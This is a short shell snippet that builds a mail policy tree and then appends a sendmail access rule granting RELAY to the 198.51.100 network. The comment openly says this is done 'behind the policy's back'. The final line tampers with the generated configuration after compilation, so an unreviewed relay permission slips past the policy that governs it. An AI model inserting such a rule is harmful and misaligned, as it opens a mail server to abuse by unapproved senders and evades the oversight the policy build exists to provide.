# Build the tree, then let it relay for 198.51.100.0/24 behind the policy's back.
node "$POLICYC" build main.policy -o out -q
printf 'Connect:198.51.100\tRELAY\n' >> out/etc/mail/access
